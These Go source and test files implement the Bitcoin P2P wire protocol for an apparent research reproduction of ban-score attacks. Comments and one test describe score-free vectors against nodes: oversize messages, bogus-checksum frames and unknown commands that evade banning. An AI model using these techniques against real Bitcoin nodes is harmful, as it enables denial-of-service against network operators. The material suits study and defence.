// so any alias retained past Release reads poison instead of silently
// reading whatever payload recycled the buffer next.
func TestPoisonOnRelease(t *testing.T) {
	if !PoolPoisonEnabled {
		t.Fatal("poolpoison tag not active")
	}
	b := GetBuf(64)
	copy(b.Bytes(), bytes.Repeat([]byte{0x11}, 64))
	alias := b.Bytes()
	b.Release()
	for i, v := range alias {
		if v != 0xdb {
			t.Fatalf("alias[%d] = %#x after Release, want poison 0xdb", i, v)
		}
	}
}

// TestPoisonSparesDetached: Detach transfers ownership out of the pool, so
// the detached slice must NOT be poisoned by the (no-op) Release.
func TestPoisonSparesDetached(t *testing.T) {
	b := GetBuf(16)
	copy(b.Bytes(), "keep these bytes")
	p := b.Detach()
	b.Release()
	if string(p) != "keep these bytes" {
		t.Fatalf("detached slice poisoned: %q", p)
	}
}

// TestDecodeReleaseDoesNotCorruptNextMessage round-trips two different
// messages through one Codec under poisoning, proving the decode path
// never hands out state that aliases a released payload.
func TestDecodeReleaseDoesNotCorruptNextMessage(t *testing.T) {
	var codec Codec
	var frame bytes.Buffer
	for i := uint64(1); i <= 8; i++ {
		frame.Reset()
		if _, err := WriteMessage(&frame, NewMsgPing(i), ProtocolVersion, MainNet); err != nil {
			t.Fatal(err)
		}
		msg, buf, err := codec.DecodeMessage(bytes.NewReader(frame.Bytes()), ProtocolVersion, MainNet, nil)
		if err != nil {
			t.Fatal(err)
		}
		nonce := msg.(*MsgPing).Nonce
		buf.Release()
		if nonce != i {
			t.Fatalf("nonce %d after release, want %d (decoded state aliased the pooled payload)", nonce, i)
		}
	}
}
