package wire

import (
	"fmt"
	"io"

	"banscore/internal/chainhash"
)

// InvType represents the allowed types of inventory vectors.
type InvType uint32

// Inventory vector types.
const (
	InvTypeError                InvType = 0
	InvTypeTx                   InvType = 1
	InvTypeBlock                InvType = 2
	InvTypeFilteredBlock        InvType = 3
	InvTypeCompactBlock         InvType = 4
	InvTypeWitnessTx            InvType = InvType(InvWitnessFlag) | InvTypeTx
	InvTypeWitnessBlock         InvType = InvType(InvWitnessFlag) | InvTypeBlock
	InvTypeFilteredWitnessBlock InvType = InvType(InvWitnessFlag) | InvTypeFilteredBlock
)

// InvWitnessFlag denotes that the peer should be sent witness data.
const InvWitnessFlag = 1 << 30

var ivStrings = map[InvType]string{
	InvTypeError:                "ERROR",
	InvTypeTx:                   "MSG_TX",
	InvTypeBlock:                "MSG_BLOCK",
	InvTypeFilteredBlock:        "MSG_FILTERED_BLOCK",
	InvTypeCompactBlock:         "MSG_CMPCT_BLOCK",
	InvTypeWitnessTx:            "MSG_WITNESS_TX",
	InvTypeWitnessBlock:         "MSG_WITNESS_BLOCK",
	InvTypeFilteredWitnessBlock: "MSG_FILTERED_WITNESS_BLOCK",
}

// String returns the InvType in human-readable form.
func (invtype InvType) String() string {
	if s, ok := ivStrings[invtype]; ok {
		return s
	}
	return fmt.Sprintf("Unknown InvType (%d)", uint32(invtype))
}

// InvVect defines an inventory vector: a typed reference to an object a peer
// has or wants.
type InvVect struct {
	Type InvType
	Hash chainhash.Hash
}

// NewInvVect returns an InvVect for the given type and hash.
func NewInvVect(typ InvType, hash *chainhash.Hash) *InvVect {
	return &InvVect{Type: typ, Hash: *hash}
}

// invVectSerializeSize is the wire size of an inventory vector.
const invVectSerializeSize = 4 + chainhash.HashSize

func readInvVect(r io.Reader, iv *InvVect) error {
	typ, err := readUint32(r)
	if err != nil {
		return err
	}
	iv.Type = InvType(typ)
	return readHash(r, &iv.Hash)
}

func writeInvVect(w io.Writer, iv *InvVect) error {
	if err := writeUint32(w, uint32(iv.Type)); err != nil {
		return err
	}
	return writeHash(w, &iv.Hash)
}
