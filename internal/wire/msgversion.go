package wire

import (
	"errors"
	"fmt"
	"io"
	"time"
)

// MsgVersion implements the Message interface and represents a Bitcoin
// VERSION message, the first message of the version handshake.
type MsgVersion struct {
	// ProtocolVersion the sender speaks.
	ProtocolVersion int32

	// Services the sender supports.
	Services ServiceFlag

	// Timestamp at the sender (seconds on the wire).
	Timestamp time.Time

	// AddrYou is the address of the remote peer as seen by the sender.
	AddrYou NetAddress

	// AddrMe is the sender's own address.
	AddrMe NetAddress

	// Nonce to detect self connections.
	Nonce uint64

	// UserAgent of the sender.
	UserAgent string

	// LastBlock is the sender's best block height.
	LastBlock int32

	// DisableRelay requests no transaction relay (BIP37).
	DisableRelay bool
}

var _ Message = (*MsgVersion)(nil)

// NewMsgVersion returns a VERSION message with defaults for this package's
// protocol version.
func NewMsgVersion(me, you *NetAddress, nonce uint64, lastBlock int32) *MsgVersion {
	return &MsgVersion{
		ProtocolVersion: int32(ProtocolVersion),
		Services:        me.Services,
		Timestamp:       time.Unix(time.Now().Unix(), 0),
		AddrYou:         *you,
		AddrMe:          *me,
		Nonce:           nonce,
		UserAgent:       DefaultUserAgent,
		LastBlock:       lastBlock,
	}
}

// DefaultUserAgent mirrors the Satoshi 0.20.0 client string of the paper's
// testbed.
const DefaultUserAgent = "/Satoshi:0.20.0/"

// HasService reports whether the sender advertises the given service.
func (msg *MsgVersion) HasService(service ServiceFlag) bool {
	return msg.Services&service == service
}

// BtcDecode decodes the VERSION message. Fields past LastBlock are optional
// for old peers, matching the tolerant decoding of real nodes.
func (msg *MsgVersion) BtcDecode(r io.Reader, _ uint32) error {
	pv, err := readUint32(r)
	if err != nil {
		return err
	}
	msg.ProtocolVersion = int32(pv)
	services, err := readUint64(r)
	if err != nil {
		return err
	}
	msg.Services = ServiceFlag(services)
	ts, err := readUint64(r)
	if err != nil {
		return err
	}
	msg.Timestamp = time.Unix(int64(ts), 0)
	if err := readNetAddress(r, &msg.AddrYou, false); err != nil {
		return err
	}
	if err := readNetAddress(r, &msg.AddrMe, false); err != nil {
		return err
	}
	if msg.Nonce, err = readUint64(r); err != nil {
		return err
	}
	ua, err := ReadVarString(r, MaxUserAgentLen)
	if err != nil {
		return err
	}
	msg.UserAgent = ua
	lastBlock, err := readUint32(r)
	if err != nil {
		return err
	}
	msg.LastBlock = int32(lastBlock)
	// Relay flag is optional trailing data.
	relay, err := readBool(r)
	if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
		return nil
	}
	if err != nil {
		return err
	}
	msg.DisableRelay = !relay
	return nil
}

// BtcEncode encodes the VERSION message.
func (msg *MsgVersion) BtcEncode(w io.Writer, _ uint32) error {
	if len(msg.UserAgent) > MaxUserAgentLen {
		return messageError("MsgVersion.BtcEncode",
			fmt.Sprintf("user agent too long [len %d, max %d]", len(msg.UserAgent), MaxUserAgentLen))
	}
	if err := writeUint32(w, uint32(msg.ProtocolVersion)); err != nil {
		return err
	}
	if err := writeUint64(w, uint64(msg.Services)); err != nil {
		return err
	}
	if err := writeUint64(w, uint64(msg.Timestamp.Unix())); err != nil {
		return err
	}
	if err := writeNetAddress(w, &msg.AddrYou, false); err != nil {
		return err
	}
	if err := writeNetAddress(w, &msg.AddrMe, false); err != nil {
		return err
	}
	if err := writeUint64(w, msg.Nonce); err != nil {
		return err
	}
	if err := WriteVarString(w, msg.UserAgent); err != nil {
		return err
	}
	if err := writeUint32(w, uint32(msg.LastBlock)); err != nil {
		return err
	}
	return writeBool(w, !msg.DisableRelay)
}

// Command returns the protocol command string.
func (msg *MsgVersion) Command() string { return CmdVersion }

// MaxPayloadLength returns the maximum payload a VERSION message can be.
func (msg *MsgVersion) MaxPayloadLength(uint32) uint32 {
	// version 4 + services 8 + timestamp 8 + two addresses + nonce 8 +
	// user agent + last block 4 + relay 1.
	return 4 + 8 + 8 + 2*(maxNetAddressPayload-4) + 8 + (MaxVarIntPayload + MaxUserAgentLen) + 4 + 1
}
