package wire

import (
	"io"
	"net"
	"time"
)

// NetAddress defines information about a peer on the network as carried in
// ADDR messages and the VERSION message. The timestamp is omitted on the
// wire inside VERSION messages, matching the protocol.
type NetAddress struct {
	// Timestamp is the last time the address was seen. Not present in
	// VERSION messages nor in protocol versions before 31402.
	Timestamp time.Time

	// Services advertised by the node at this address.
	Services ServiceFlag

	// IP address, always stored as 16 bytes (IPv4 uses the mapped form).
	IP net.IP

	// Port the node is listening on, big-endian on the wire.
	Port uint16
}

// HasService reports whether the address advertises the given service.
func (na *NetAddress) HasService(service ServiceFlag) bool {
	return na.Services&service == service
}

// AddService adds a service to the advertised set.
func (na *NetAddress) AddService(service ServiceFlag) {
	na.Services |= service
}

// NewNetAddressIPPort returns a NetAddress with the current fields set and a
// zero timestamp (callers stamping ADDR entries set Timestamp themselves).
func NewNetAddressIPPort(ip net.IP, port uint16, services ServiceFlag) *NetAddress {
	return &NetAddress{
		Services: services,
		IP:       ip,
		Port:     port,
	}
}

// NewNetAddress converts a net.TCPAddr into a NetAddress.
func NewNetAddress(addr *net.TCPAddr, services ServiceFlag) *NetAddress {
	return NewNetAddressIPPort(addr.IP, uint16(addr.Port), services)
}

// maxNetAddressPayload is the wire size of a NetAddress with timestamp.
const maxNetAddressPayload = 4 + 8 + 16 + 2

func readNetAddress(r io.Reader, na *NetAddress, withTimestamp bool) error {
	if withTimestamp {
		ts, err := readUint32(r)
		if err != nil {
			return err
		}
		na.Timestamp = time.Unix(int64(ts), 0)
	}
	services, err := readUint64(r)
	if err != nil {
		return err
	}
	na.Services = ServiceFlag(services)
	var ip [16]byte
	if _, err := io.ReadFull(r, ip[:]); err != nil {
		return err
	}
	na.IP = net.IP(ip[:])
	port, err := readUint16BE(r)
	if err != nil {
		return err
	}
	na.Port = port
	return nil
}

func writeNetAddress(w io.Writer, na *NetAddress, withTimestamp bool) error {
	if withTimestamp {
		if err := writeUint32(w, uint32(na.Timestamp.Unix())); err != nil {
			return err
		}
	}
	if err := writeUint64(w, uint64(na.Services)); err != nil {
		return err
	}
	var ip [16]byte
	if na.IP != nil {
		copy(ip[:], na.IP.To16())
	}
	if _, err := w.Write(ip[:]); err != nil {
		return err
	}
	return writeUint16BE(w, na.Port)
}
