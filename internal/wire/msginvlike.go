package wire

import (
	"fmt"
	"io"
)

// hardMaxInvPerMsg is the decode-time allocation cap for inventory-carrying
// messages; like hardMaxAddrPerMsg it sits above the MaxInvPerMsg policy
// limit so oversize INV/GETDATA reach the ban-score rules (+20 per Table I).
const hardMaxInvPerMsg = 4 * MaxInvPerMsg

// invListMessage is the shared body of INV, GETDATA and NOTFOUND.
type invListMessage struct {
	InvList []*InvVect
}

// AddInvVect appends an inventory vector.
func (msg *invListMessage) AddInvVect(iv *InvVect) {
	msg.InvList = append(msg.InvList, iv)
}

// BtcDecode decodes the inventory list.
func (msg *invListMessage) BtcDecode(r io.Reader, _ uint32) error {
	count, err := ReadVarInt(r)
	if err != nil {
		return err
	}
	if count > hardMaxInvPerMsg {
		return messageError("invListMessage.BtcDecode",
			fmt.Sprintf("inv count %d exceeds hard cap %d", count, hardMaxInvPerMsg))
	}
	msg.InvList = make([]*InvVect, 0, min(count, MaxInvPerMsg))
	for i := uint64(0); i < count; i++ {
		iv := InvVect{}
		if err := readInvVect(r, &iv); err != nil {
			return err
		}
		msg.InvList = append(msg.InvList, &iv)
	}
	return nil
}

// BtcEncode encodes the inventory list without enforcing the policy limit,
// so the attacker toolkit can emit oversize messages.
func (msg *invListMessage) BtcEncode(w io.Writer, _ uint32) error {
	if err := WriteVarInt(w, uint64(len(msg.InvList))); err != nil {
		return err
	}
	for _, iv := range msg.InvList {
		if err := writeInvVect(w, iv); err != nil {
			return err
		}
	}
	return nil
}

// MaxPayloadLength returns the maximum payload for inventory messages.
func (msg *invListMessage) MaxPayloadLength(uint32) uint32 {
	return MaxVarIntPayload + hardMaxInvPerMsg*invVectSerializeSize
}

// MsgInv implements the Message interface and represents an INV message
// advertising objects the sender has.
type MsgInv struct{ invListMessage }

// NewMsgInv returns an empty INV message.
func NewMsgInv() *MsgInv { return &MsgInv{} }

// Command returns the protocol command string.
func (*MsgInv) Command() string { return CmdInv }

// MsgGetData implements the Message interface and represents a GETDATA
// message requesting objects by inventory vector.
type MsgGetData struct{ invListMessage }

// NewMsgGetData returns an empty GETDATA message.
func NewMsgGetData() *MsgGetData { return &MsgGetData{} }

// Command returns the protocol command string.
func (*MsgGetData) Command() string { return CmdGetData }

// MsgNotFound implements the Message interface and represents a NOTFOUND
// message answering a GETDATA for unknown objects.
type MsgNotFound struct{ invListMessage }

// NewMsgNotFound returns an empty NOTFOUND message.
func NewMsgNotFound() *MsgNotFound { return &MsgNotFound{} }

// Command returns the protocol command string.
func (*MsgNotFound) Command() string { return CmdNotFound }

var (
	_ Message = (*MsgInv)(nil)
	_ Message = (*MsgGetData)(nil)
	_ Message = (*MsgNotFound)(nil)
)
