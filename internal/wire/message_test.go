package wire

import (
	"bytes"
	"errors"
	"io"
	"net"
	"testing"
	"testing/quick"
	"time"

	"banscore/internal/chainhash"
)

func testVersion() *MsgVersion {
	me := NewNetAddressIPPort(net.ParseIP("10.0.0.1"), 8333, SFNodeNetwork|SFNodeWitness)
	you := NewNetAddressIPPort(net.ParseIP("10.0.0.2"), 8333, SFNodeNetwork)
	v := NewMsgVersion(me, you, 0xdeadbeefcafe, 650000)
	v.Timestamp = time.Unix(1700000000, 0)
	return v
}

func TestWriteReadMessageRoundTrip(t *testing.T) {
	msgs := []Message{
		testVersion(),
		&MsgVerAck{},
		&MsgGetAddr{},
		&MsgMemPool{},
		&MsgSendHeaders{},
		&MsgFilterClear{},
		NewMsgPing(12345),
		NewMsgPong(12345),
		NewMsgFeeFilter(1000),
		NewMsgSendCmpct(true, 2),
	}
	for _, msg := range msgs {
		t.Run(msg.Command(), func(t *testing.T) {
			var buf bytes.Buffer
			n, err := WriteMessage(&buf, msg, ProtocolVersion, SimNet)
			if err != nil {
				t.Fatalf("WriteMessage: %v", err)
			}
			if n != buf.Len() {
				t.Errorf("WriteMessage reported %d bytes, wrote %d", n, buf.Len())
			}
			out, _, err := ReadMessage(&buf, ProtocolVersion, SimNet)
			if err != nil {
				t.Fatalf("ReadMessage: %v", err)
			}
			if out.Command() != msg.Command() {
				t.Errorf("command = %q, want %q", out.Command(), msg.Command())
			}
		})
	}
}

func TestReadMessageWrongNetwork(t *testing.T) {
	var buf bytes.Buffer
	if _, err := WriteMessage(&buf, NewMsgPing(1), ProtocolVersion, MainNet); err != nil {
		t.Fatal(err)
	}
	_, _, err := ReadMessage(&buf, ProtocolVersion, SimNet)
	var mErr *MessageError
	if !errors.As(err, &mErr) {
		t.Errorf("ReadMessage wrong net = %v, want MessageError", err)
	}
}

func TestReadMessageChecksumMismatch(t *testing.T) {
	// Frame a PING with a deliberately corrupt checksum — the paper's
	// "forgoing ban score by constructing bogus messages" vector.
	var payload bytes.Buffer
	if err := NewMsgPing(7).BtcEncode(&payload, ProtocolVersion); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	bad := [4]byte{0xde, 0xad, 0xbe, 0xef}
	if _, err := WriteRawMessageChecksum(&buf, CmdPing, payload.Bytes(), SimNet, bad); err != nil {
		t.Fatal(err)
	}
	_, _, err := ReadMessage(&buf, ProtocolVersion, SimNet)
	if !errors.Is(err, ErrChecksumMismatch) {
		t.Errorf("ReadMessage = %v, want ErrChecksumMismatch", err)
	}
}

func TestReadMessageUnknownCommand(t *testing.T) {
	var buf bytes.Buffer
	payload := []byte{1, 2, 3}
	if _, err := WriteRawMessage(&buf, "boguscmd", payload, SimNet); err != nil {
		t.Fatal(err)
	}
	// Append a valid message to prove the stream stays in sync after the
	// unknown payload is drained.
	if _, err := WriteMessage(&buf, NewMsgPing(9), ProtocolVersion, SimNet); err != nil {
		t.Fatal(err)
	}
	_, _, err := ReadMessage(&buf, ProtocolVersion, SimNet)
	var unknownErr *ErrUnknownCommand
	if !errors.As(err, &unknownErr) {
		t.Fatalf("ReadMessage = %v, want ErrUnknownCommand", err)
	}
	if unknownErr.Command != "boguscmd" {
		t.Errorf("unknown command = %q", unknownErr.Command)
	}
	msg, _, err := ReadMessage(&buf, ProtocolVersion, SimNet)
	if err != nil {
		t.Fatalf("stream out of sync after unknown command: %v", err)
	}
	if ping, ok := msg.(*MsgPing); !ok || ping.Nonce != 9 {
		t.Errorf("follow-up message = %#v", msg)
	}
}

func TestReadMessageOversizedHeaderLength(t *testing.T) {
	var hdr bytes.Buffer
	_ = writeUint32(&hdr, uint32(SimNet))
	var cmd [CommandSize]byte
	copy(cmd[:], CmdPing)
	hdr.Write(cmd[:])
	_ = writeUint32(&hdr, MaxMessagePayload+1)
	hdr.Write([]byte{0, 0, 0, 0})
	_, _, err := ReadMessage(&hdr, ProtocolVersion, SimNet)
	var mErr *MessageError
	if !errors.As(err, &mErr) {
		t.Errorf("ReadMessage oversize length = %v, want MessageError", err)
	}
}

func TestReadMessagePayloadExceedsPerCommandMax(t *testing.T) {
	// A 9-byte ping exceeds MsgPing's 8-byte max payload; the reader must
	// drain it and stay in sync.
	var buf bytes.Buffer
	if _, err := WriteRawMessage(&buf, CmdPing, make([]byte, 9), SimNet); err != nil {
		t.Fatal(err)
	}
	if _, err := WriteMessage(&buf, NewMsgPong(3), ProtocolVersion, SimNet); err != nil {
		t.Fatal(err)
	}
	_, _, err := ReadMessage(&buf, ProtocolVersion, SimNet)
	var mErr *MessageError
	if !errors.As(err, &mErr) {
		t.Fatalf("oversize ping = %v, want MessageError", err)
	}
	msg, _, err := ReadMessage(&buf, ProtocolVersion, SimNet)
	if err != nil {
		t.Fatalf("stream out of sync: %v", err)
	}
	if _, ok := msg.(*MsgPong); !ok {
		t.Errorf("follow-up = %#v, want MsgPong", msg)
	}
}

func TestReadMessageTruncatedPayload(t *testing.T) {
	var buf bytes.Buffer
	if _, err := WriteMessage(&buf, NewMsgPing(1), ProtocolVersion, SimNet); err != nil {
		t.Fatal(err)
	}
	trunc := buf.Bytes()[:buf.Len()-2]
	_, _, err := ReadMessage(bytes.NewReader(trunc), ProtocolVersion, SimNet)
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Errorf("truncated payload = %v, want unexpected EOF", err)
	}
}

func TestWriteMessageCommandTooLong(t *testing.T) {
	msg := &fakeMessage{command: "thiscommandiswaytoolong"}
	if _, err := WriteMessage(io.Discard, msg, ProtocolVersion, SimNet); err == nil {
		t.Error("WriteMessage accepted an over-long command")
	}
}

// fakeMessage lets framing tests provide arbitrary commands and payloads.
type fakeMessage struct {
	command string
	payload []byte
	maxLen  uint32
}

func (f *fakeMessage) BtcDecode(io.Reader, uint32) error { return nil }
func (f *fakeMessage) BtcEncode(w io.Writer, _ uint32) error {
	_, err := w.Write(f.payload)
	return err
}
func (f *fakeMessage) Command() string { return f.command }
func (f *fakeMessage) MaxPayloadLength(uint32) uint32 {
	if f.maxLen != 0 {
		return f.maxLen
	}
	return MaxMessagePayload
}

func TestWriteMessagePayloadExceedsCommandMax(t *testing.T) {
	msg := &fakeMessage{command: CmdPing, payload: make([]byte, 100), maxLen: 8}
	if _, err := WriteMessage(io.Discard, msg, ProtocolVersion, SimNet); err == nil {
		t.Error("WriteMessage accepted payload above per-command max")
	}
}

func TestMakeEmptyMessageAllCommands(t *testing.T) {
	commands := []string{
		CmdVersion, CmdVerAck, CmdAddr, CmdGetAddr, CmdInv, CmdGetData,
		CmdNotFound, CmdGetBlocks, CmdGetHeaders, CmdHeaders, CmdTx,
		CmdBlock, CmdMemPool, CmdPing, CmdPong, CmdReject, CmdFilterLoad,
		CmdFilterAdd, CmdFilterClear, CmdMerkleBlock, CmdSendHeaders,
		CmdFeeFilter, CmdSendCmpct, CmdCmpctBlock, CmdGetBlockTxn, CmdBlockTxn,
	}
	if len(commands) != 26 {
		t.Fatalf("expected the 26 developer-reference commands, have %d", len(commands))
	}
	for _, cmd := range commands {
		msg, err := makeEmptyMessage(cmd)
		if err != nil {
			t.Errorf("makeEmptyMessage(%q): %v", cmd, err)
			continue
		}
		if msg.Command() != cmd {
			t.Errorf("makeEmptyMessage(%q).Command() = %q", cmd, msg.Command())
		}
	}
}

func TestBitcoinNetString(t *testing.T) {
	tests := []struct {
		net  BitcoinNet
		want string
	}{
		{MainNet, "MainNet"},
		{TestNet3, "TestNet3"},
		{SimNet, "SimNet"},
		{BitcoinNet(0x12345678), "Unknown BitcoinNet (0x12345678)"},
	}
	for _, tt := range tests {
		if got := tt.net.String(); got != tt.want {
			t.Errorf("%v.String() = %q, want %q", uint32(tt.net), got, tt.want)
		}
	}
}

func TestServiceFlagString(t *testing.T) {
	if got := ServiceFlag(0).String(); got != "0x0" {
		t.Errorf("zero flag = %q", got)
	}
	if got := (SFNodeNetwork | SFNodeWitness).String(); got != "SFNodeNetwork|SFNodeWitness" {
		t.Errorf("combined flags = %q", got)
	}
	if got := ServiceFlag(1 << 40).String(); got != "0x10000000000" {
		t.Errorf("unknown flag = %q", got)
	}
}

func TestWriteRawMessageChecksumIsCorrectByDefault(t *testing.T) {
	payload := []byte{9, 9, 9}
	var buf bytes.Buffer
	if _, err := WriteRawMessage(&buf, CmdPing, payload, SimNet); err != nil {
		t.Fatal(err)
	}
	raw := buf.Bytes()
	var want [4]byte
	copy(want[:], chainhash.DoubleHashB(payload)[:4])
	var got [4]byte
	copy(got[:], raw[20:24])
	if got != want {
		t.Errorf("checksum = %x, want %x", got, want)
	}
}

func TestReadMessageNeverPanicsOnRandomBytes(t *testing.T) {
	// Hostile-input robustness: arbitrary bytes must produce an error (or
	// a valid message), never a panic or a huge allocation.
	f := func(data []byte) bool {
		_, _, _ = ReadMessage(bytes.NewReader(data), ProtocolVersion, SimNet)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

func TestReadMessageNeverPanicsOnCorruptedFrames(t *testing.T) {
	// Flip bytes inside otherwise-valid frames of each message type.
	msgs := []Message{
		testVersion(), NewMsgPing(1), NewMsgFeeFilter(10), NewMsgSendCmpct(true, 2),
	}
	for _, msg := range msgs {
		var buf bytes.Buffer
		if _, err := WriteMessage(&buf, msg, ProtocolVersion, SimNet); err != nil {
			t.Fatal(err)
		}
		frame := buf.Bytes()
		for i := 0; i < len(frame); i++ {
			corrupted := append([]byte(nil), frame...)
			corrupted[i] ^= 0xff
			_, _, _ = ReadMessage(bytes.NewReader(corrupted), ProtocolVersion, SimNet)
		}
	}
}
