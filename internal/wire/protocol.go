// Package wire implements the Bitcoin P2P wire protocol: the 24-byte message
// header, compact-size integers, and all 26 message types of the Bitcoin
// developer reference, matching protocol version 70015 as used by Bitcoin
// Core 0.20.0 (the version the paper studies).
package wire

import "fmt"

// ProtocolVersion is the protocol version this package speaks. 70015 is the
// "Satoshi 0.20.0 / protocol version 70015" configuration used by the paper's
// target node and innocent peer.
const ProtocolVersion uint32 = 70015

// Protocol version milestones referenced by validation rules.
const (
	// BIP37Version is the protocol version that introduced bloom
	// filtering (FILTERLOAD / FILTERADD / FILTERCLEAR / MERKLEBLOCK).
	BIP37Version uint32 = 70001

	// NoBloomVersion is the protocol version from which unsolicited bloom
	// filter messages are a misbehavior unless NODE_BLOOM is negotiated.
	// Table I: "FILTERADD: Protocol version number >= 70011".
	NoBloomVersion uint32 = 70011

	// SendHeadersVersion added the SENDHEADERS negotiation.
	SendHeadersVersion uint32 = 70012

	// FeeFilterVersion added the FEEFILTER message.
	FeeFilterVersion uint32 = 70013

	// ShortIDsBlocksVersion added BIP152 compact blocks.
	ShortIDsBlocksVersion uint32 = 70014
)

// ServiceFlag identifies services supported by a Bitcoin node, advertised in
// the VERSION message and in ADDR entries.
type ServiceFlag uint64

// Service flags.
const (
	SFNodeNetwork ServiceFlag = 1 << iota
	SFNodeGetUTXO
	SFNodeBloom
	SFNodeWitness
	SFNodeXthin
	_ // bit 5 unused
	SFNodeCF
	_ // bits 7..9 unused
	_
	_
	SFNodeNetworkLimited ServiceFlag = 1 << 10
)

// String returns the service flag in human-readable form.
func (f ServiceFlag) String() string {
	if f == 0 {
		return "0x0"
	}
	names := []struct {
		flag ServiceFlag
		name string
	}{
		{SFNodeNetwork, "SFNodeNetwork"},
		{SFNodeGetUTXO, "SFNodeGetUTXO"},
		{SFNodeBloom, "SFNodeBloom"},
		{SFNodeWitness, "SFNodeWitness"},
		{SFNodeXthin, "SFNodeXthin"},
		{SFNodeCF, "SFNodeCF"},
		{SFNodeNetworkLimited, "SFNodeNetworkLimited"},
	}
	s := ""
	for _, n := range names {
		if f&n.flag == n.flag {
			if s != "" {
				s += "|"
			}
			s += n.name
			f &^= n.flag
		}
	}
	if f != 0 {
		if s != "" {
			s += "|"
		}
		s += fmt.Sprintf("0x%x", uint64(f))
	}
	return s
}

// BitcoinNet represents the network magic that prefixes every message.
type BitcoinNet uint32

// Network magic numbers.
const (
	// MainNet is the Bitcoin main network.
	MainNet BitcoinNet = 0xd9b4bef9
	// TestNet3 is the Bitcoin test network (version 3).
	TestNet3 BitcoinNet = 0x0709110b
	// SimNet is the magic used by the in-memory simulation network of
	// this reproduction, so that simulated traffic can never be confused
	// with real Mainnet traffic.
	SimNet BitcoinNet = 0x12141c16
)

// String returns the network in human-readable form.
func (n BitcoinNet) String() string {
	switch n {
	case MainNet:
		return "MainNet"
	case TestNet3:
		return "TestNet3"
	case SimNet:
		return "SimNet"
	}
	return fmt.Sprintf("Unknown BitcoinNet (0x%x)", uint32(n))
}

// Protocol limits. The first group are hard wire limits enforced at decode
// time; exceeding them is a malformed message. The second group are the
// *policy* limits whose violation is a scored misbehavior per Table I — those
// are deliberately NOT enforced at decode time so that the node's misbehavior
// tracking (package core) observes them, mirroring Bitcoin Core's split
// between deserialization and net_processing.
const (
	// MaxMessagePayload is the maximum bytes a message payload can be.
	MaxMessagePayload = 32 * 1024 * 1024 // 32 MiB

	// MaxVarIntPayload is the maximum payload size for a variable length integer.
	MaxVarIntPayload = 9

	// MaxUserAgentLen is the maximum allowed length for the user agent
	// field in a VERSION message.
	MaxUserAgentLen = 256

	// MaxBlockPayload is the maximum bytes a BLOCK message can be.
	MaxBlockPayload = 4 * 1024 * 1024
)

// Policy limits from Table I (checked by the node, scored by ban rules).
const (
	// MaxAddrPerMsg: "ADDR: More than 1000 addresses" scores 20.
	MaxAddrPerMsg = 1000

	// MaxInvPerMsg: "INV/GETDATA: More than 50000 inventory entries" scores 20.
	MaxInvPerMsg = 50000

	// MaxBlockHeadersPerMsg: "HEADERS: More than 2000 headers" scores 20.
	MaxBlockHeadersPerMsg = 2000

	// MaxFilterLoadFilterSize: "FILTERLOAD: Bloom filter size > 36000 bytes" scores 100.
	MaxFilterLoadFilterSize = 36000

	// MaxFilterLoadHashFuncs is the maximum number of bloom hash funcs.
	MaxFilterLoadHashFuncs = 50

	// MaxFilterAddDataSize: "FILTERADD: Data item > 520 bytes" scores 100.
	MaxFilterAddDataSize = 520
)

// MessageError describes a malformed or protocol-violating message. Func is
// the operation that detected it, Description the human-readable cause.
type MessageError struct {
	Func        string
	Description string
}

// Error implements the error interface.
func (e *MessageError) Error() string {
	if e.Func != "" {
		return fmt.Sprintf("%s: %s", e.Func, e.Description)
	}
	return e.Description
}

func messageError(f, desc string) *MessageError {
	return &MessageError{Func: f, Description: desc}
}
