package wire

import (
	"fmt"
	"io"
)

// hardMaxAddrPerMsg is the decode-time allocation cap for ADDR messages. It
// is deliberately far above the MaxAddrPerMsg policy limit so oversize ADDR
// messages reach the node's misbehavior tracking (which scores them 20 per
// Table I) instead of dying in deserialization.
const hardMaxAddrPerMsg = 50 * MaxAddrPerMsg

// MsgAddr implements the Message interface and represents an ADDR message
// advertising known peers.
type MsgAddr struct {
	AddrList []*NetAddress
}

var _ Message = (*MsgAddr)(nil)

// NewMsgAddr returns an empty ADDR message.
func NewMsgAddr() *MsgAddr { return &MsgAddr{} }

// AddAddress appends an address.
func (msg *MsgAddr) AddAddress(na *NetAddress) {
	msg.AddrList = append(msg.AddrList, na)
}

// BtcDecode decodes the ADDR message.
func (msg *MsgAddr) BtcDecode(r io.Reader, _ uint32) error {
	count, err := ReadVarInt(r)
	if err != nil {
		return err
	}
	if count > hardMaxAddrPerMsg {
		return messageError("MsgAddr.BtcDecode",
			fmt.Sprintf("address count %d exceeds hard cap %d", count, hardMaxAddrPerMsg))
	}
	msg.AddrList = make([]*NetAddress, 0, min(count, MaxAddrPerMsg))
	for i := uint64(0); i < count; i++ {
		na := NetAddress{}
		if err := readNetAddress(r, &na, true); err != nil {
			return err
		}
		msg.AddrList = append(msg.AddrList, &na)
	}
	return nil
}

// BtcEncode encodes the ADDR message. Encoding does not enforce the policy
// limit: the attacker toolkit must be able to emit oversize messages.
func (msg *MsgAddr) BtcEncode(w io.Writer, _ uint32) error {
	if err := WriteVarInt(w, uint64(len(msg.AddrList))); err != nil {
		return err
	}
	for _, na := range msg.AddrList {
		if err := writeNetAddress(w, na, true); err != nil {
			return err
		}
	}
	return nil
}

// Command returns the protocol command string.
func (msg *MsgAddr) Command() string { return CmdAddr }

// MaxPayloadLength returns the maximum payload an ADDR message can be. It is
// sized from the hard cap so oversize-but-parseable attacks pass framing.
func (msg *MsgAddr) MaxPayloadLength(uint32) uint32 {
	return MaxVarIntPayload + hardMaxAddrPerMsg*maxNetAddressPayload
}
