package wire

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"unicode/utf8"

	"banscore/internal/chainhash"
)

// MessageHeaderSize is the size of the fixed message header: 4 bytes magic,
// 12 bytes command, 4 bytes payload length, 4 bytes checksum.
const MessageHeaderSize = 24

// CommandSize is the fixed, NUL-padded size of the command field.
const CommandSize = 12

// ErrChecksumMismatch is returned by ReadMessage when the payload checksum
// does not match the header. This failure is detected by the transport
// framing *before* any application-layer processing, so — exactly as the
// paper's attack vector 2 exploits — it is dropped without increasing the
// sender's ban score.
var ErrChecksumMismatch = errors.New("payload checksum mismatch")

// ErrUnknownCommand is returned by ReadMessage for a syntactically valid
// header naming a command this implementation does not know. Bitcoin Core
// ignores unknown commands without scoring, another score-free vector.
